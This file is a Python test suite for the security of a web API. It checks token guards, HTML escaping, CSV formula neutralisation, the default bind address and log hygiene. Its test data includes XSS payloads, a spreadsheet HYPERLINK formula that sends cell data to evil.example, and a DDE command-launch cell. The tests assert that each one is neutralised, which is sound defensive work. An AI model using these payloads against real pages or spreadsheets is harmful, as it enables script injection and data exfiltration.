"""Security: the bearer token on every mutating endpoint, escaped user text in pages,
neutralised CSV, a loopback default bind, and no secret in the server's log."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit, urlunsplit

import httpx
import pytest

from tests.api.helpers import spec, submit, wait_status
from tests.api.live import LiveServer
from tests.api.test_bad_input import newest
from tests.conftest import need
from tests.services import FAST, REDIS_URL, SESSION_TAG, pg_schema_url, postgres_ok, redis_ok

warnings.filterwarnings("ignore", message=".*httpx.*starlette.testclient.*")
pytestmark = pytest.mark.services

TOKEN = "tok-3c1f9e0d-never-logged"
RIGHT = {"Authorization": f"Bearer {TOKEN}"}
WRONG_HEADERS = [
    {},
    {"Authorization": "Bearer not-the-token"},
    {"Authorization": f"Bearer {TOKEN}x"},
    {"Authorization": f"Bearer {TOKEN[:-1]}"},
    {"Authorization": f"Basic {TOKEN}"},
    {"Authorization": TOKEN},
    {"Authorization": "Bearer"},
    {"Authorization": "bearer"},
]
# Every route that changes state, as (method, path); any new one must be added here.
MUTATING = {
    ("POST", "/api/v1/sweeps"),
    ("POST", "/api/v1/sweeps/{sweep_id}/cancel"),
    ("POST", "/api/v1/sweeps/{sweep_id}/retry"),
    ("DELETE", "/api/v1/sweeps/{sweep_id}"),
}
# POST routes that store nothing: no token needed (the new-sweep page checks specs
# as the user types, before any token is at hand).
READ_ONLY_POSTS = {("POST", "/api/v1/sweeps/validate")}
XSS = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'


def test_every_mutating_route_is_listed(make_client: Any) -> None:
    client = make_client(api_token=TOKEN)
    paths = client.get("/openapi.json").json()["paths"]
    changing = {(method.upper(), path) for path, ops in paths.items() for method in ops
                if method != "get"}
    assert changing == MUTATING | READ_ONLY_POSTS, "a new mutating route needs a token test"
    # pages (outside the schema) take no form posts or other writes
    for page in ("/", "/sweeps/new", "/sweeps/1", "/compare"):
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            assert client.request(method, page).status_code == 405, (method, page)


def _denied(client: Any, method: str, path: str, **kw: Any) -> None:
    for headers in WRONG_HEADERS:
        resp = client.request(method, path, headers=headers, **kw)
        assert resp.status_code == 401, (method, path, headers, resp.text)
        assert resp.headers["www-authenticate"] == "Bearer"
        assert resp.json() == {"detail": "missing or wrong bearer token"}


def test_token_guards_every_mutation_and_reads_stay_open(make_client: Any) -> None:
    client = make_client(api_token=TOKEN)
    doc = spec("token guard", steps=20000)  # long enough to be cancelable
    before = newest(client)
    _denied(client, "POST", "/api/v1/sweeps", json=doc)
    assert newest(client) == before  # nothing was created

    created = client.post("/api/v1/sweeps", json=doc, headers=RIGHT)
    assert created.status_code == 201, created.text
    sid = created.json()["id"]
    url = f"/api/v1/sweeps/{sid}"

    _denied(client, "POST", f"{url}/cancel")
    assert client.get(url).json()["status"] in ("queued", "running")
    canceled = client.post(f"{url}/cancel", headers=RIGHT)
    assert canceled.status_code == 200 and canceled.json()["status"] == "canceled"

    _denied(client, "POST", f"{url}/retry")
    assert client.get(url).json()["status"] == "canceled"
    retried = client.post(f"{url}/retry", headers=RIGHT)
    assert retried.status_code == 200 and retried.json()["status"] in ("queued", "running")
    assert client.post(f"{url}/cancel", headers=RIGHT).status_code == 200

    _denied(client, "DELETE", url)
    _denied(client, "DELETE", "/api/v1/sweeps/987654")  # 401 before 404: ids are not probed
    assert client.get(url).status_code == 200

    # reads need no token, and a (wrong) token does not hurt them
    for path in ("/api/v1/sweeps", url, f"{url}/runs", f"{url}/phase-map", f"{url}/boundary",
                 f"{url}/export.csv", "/api/v1/presets", "/api/v1/healthz", "/", f"/sweeps/{sid}",
                 "/sweeps/new"):
        for headers in ({}, {"Authorization": "Bearer not-the-token"}):
            resp = client.get(path, headers=headers)
            assert resp.status_code == 200, (path, resp.status_code, resp.text[:200])
    check = client.post("/api/v1/sweeps/validate", json=doc)
    assert check.status_code == 200 and check.json()["total_runs"] == 32

    assert client.delete(url, headers=RIGHT).status_code == 204
    assert client.get(url).status_code == 404


def test_without_a_token_configured_mutations_are_open(make_client: Any) -> None:
    client = make_client()
    sweep = submit(client, spec("open", steps=20))
    wait_status(client, sweep["id"], "done")
    assert client.delete(f"/api/v1/sweeps/{sweep['id']}").status_code == 204


def test_user_text_is_escaped_in_pages(make_client: Any) -> None:
    client = make_client()
    sweep = submit(client, spec(XSS, steps=20))
    assert client.get(f"/api/v1/sweeps/{sweep['id']}").json()["name"] == XSS  # data, as given
    pages = [client.get("/"), client.get(f"/sweeps/{sweep['id']}"),
             client.get("/compare", params={"a": XSS, "b": '"><script>alert(2)</script>'})]
    for page in pages:
        assert page.status_code == 200
        assert page.headers["content-type"].startswith("text/html")
        # no tag of the payload survives, and no quote that could end an attribute
        assert "<script>alert" not in page.text and "<img src=x" not in page.text
        assert '"><script>alert(2)' not in page.text and "<script>alert(2)" not in page.text
        # and were anything to slip through, no inline script may run
        csp = dict(d.strip().split(" ", 1) for d in page.headers["content-security-policy"]
                   .split(";"))
        assert csp["script-src"] == "'self'"
        assert page.headers["x-content-type-options"] == "nosniff"
    assert "&lt;script&gt;alert(&#34;pwned&#34;)" in pages[2].text  # reflected, escaped
    wait_status(client, sweep["id"], "done")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_export_neutralises_formulas(make_client: Any) -> None:
    client = make_client()
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    doc = spec(name, steps=20, clip=[{"mode": "none"}, {"mode": "global_norm", "threshold": 1.0}])
    sweep = submit(client, doc)
    wait_status(client, sweep["id"], "done")
    for level in ("runs", "cells"):
        resp = client.get(f"/api/v1/sweeps/{sweep['id']}/export.csv", params={"level": level})
        assert resp.status_code == 200
        assert resp.headers["content-type"].startswith("text/csv")
        assert 'filename="sweep-' in resp.headers["content-disposition"]  # no user text
        assert "HYPERLINK" not in resp.text
        rows = list(csv.reader(io.StringIO(resp.text)))
        assert len(rows) > 1
        for row in rows:
            for cell in row:
                # a cell a spreadsheet would evaluate is either a plain number or quoted
                assert not cell.startswith(FORMULA_STARTS) or _number(cell), (level, cell)


def test_export_writer_quotes_text_that_a_spreadsheet_would_run() -> None:
    """The same writer the endpoint streams through, on the text a sweep could carry."""
    from experiments.export import fmt

    for text in ("=1+1", "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"):
        assert fmt(text) == "'" + text
    assert fmt(-0.5) == "-0.5" and fmt(float("-inf")) == "-inf" and fmt("plain") == "plain"


# --- where the server listens -----------------------------------------------------------


def test_serve_binds_loopback_unless_told(monkeypatch: pytest.MonkeyPatch, tmp_path: Path
                                          ) -> None:
    import uvicorn
    from typer.testing import CliRunner

    import api.db.migrate
    from api.cli import app
    from api.settings import Settings

    for key in ("BETASCOPE_HOST", "BETASCOPE_PORT", "BETASCOPE_BROKER_URL"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("BETASCOPE_DATABASE_URL", f"sqlite:///{tmp_path}/bind.db")
    assert Settings().host == "127.0.0.1"
    bound: list[tuple[str, int]] = []
    monkeypatch.setattr(uvicorn, "run", lambda app, host, port, **kw: bound.append((host, port)))
    monkeypatch.setattr(api.db.migrate, "upgrade", lambda *a, **k: None)

    runner = CliRunner()
    assert runner.invoke(app, ["serve"]).exit_code == 0
    assert runner.invoke(app, ["serve", "--host", "0.0.0.0", "--port", "9001"]).exit_code == 0
    monkeypatch.setenv("BETASCOPE_HOST", "10.1.2.3")
    assert runner.invoke(app, ["serve"]).exit_code == 0
    assert bound == [("127.0.0.1", 8000), ("0.0.0.0", 9001), ("10.1.2.3", 8000)]


# --- secrets ----------------------------------------------------------------------------

DB_PASSWORD = "pgpw-5d0e7c2a-never-logged"
BROKER_PASSWORD = "rdpw-91b4f3aa-never-logged"


def _with_password(url: str, password: str) -> str:
    parts = urlsplit(url)
    host = parts.netloc.rsplit("@", 1)[-1]
    return urlunsplit(parts._replace(netloc=f"{parts.username or ''}:{password}@{host}"))


def test_no_secret_in_the_server_log(tmp_path: Path) -> None:
    """A real `betascope serve` with a token, a database password and (where Redis runs)
    a broker password: its whole output, requests with right and wrong tokens included,
    holds none of them. (Local Postgres and Redis trust loopback, so any password works.)"""
    need(postgres_ok(), "PostgreSQL (BETASCOPE_TEST_DATABASE_URL)")
    db_url = _with_password(pg_schema_url("security"), DB_PASSWORD)
    settings: dict[str, Any] = dict(FAST, database_url=db_url, api_token=TOKEN)
    queue = f"betascope-test-security-{SESSION_TAG}"
    if redis_ok():
        settings.update(broker_url=_with_password(REDIS_URL, BROKER_PASSWORD), queue=queue)
    server = LiveServer(settings, tmp_path / "serve.log")
    try:
        server.wait_ready()
        with httpx.Client(base_url=server.url, timeout=30) as http:
            doc = spec("secrets", steps=20)
            for headers in WRONG_HEADERS:
                assert http.post("/api/v1/sweeps", json=doc, headers=headers).status_code == 401
            made = http.post("/api/v1/sweeps", json=doc, headers=RIGHT)
            assert made.status_code == 201, made.text
            sid = made.json()["id"]
            assert http.get(f"/api/v1/sweeps/{sid}").status_code == 200
            assert http.get("/api/v1/sweeps/999999").status_code == 404
            assert http.get("/api/v1/readyz").status_code == 200
            assert http.post(f"/api/v1/sweeps/{sid}/cancel", headers=RIGHT).status_code in (
                200, 409)
            assert http.delete(f"/api/v1/sweeps/{sid}", headers=RIGHT).status_code == 204
            assert http.post("/api/v1/sweeps", content=b"{", headers={
                **RIGHT, "content-type": "application/json"}).status_code == 400
    finally:
        server.stop()
        if "broker_url" in settings:
            import redis

            redis.Redis.from_url(REDIS_URL).delete(queue)
    log = server.log()
    assert "Uvicorn running on http://127.0.0.1:" in log  # the log was captured
    assert "POST /api/v1/sweeps HTTP/1.1\" 401" in log
    for secret in (TOKEN, DB_PASSWORD, BROKER_PASSWORD):
        assert secret not in log, f"{secret} leaked into the log:\n{log}"
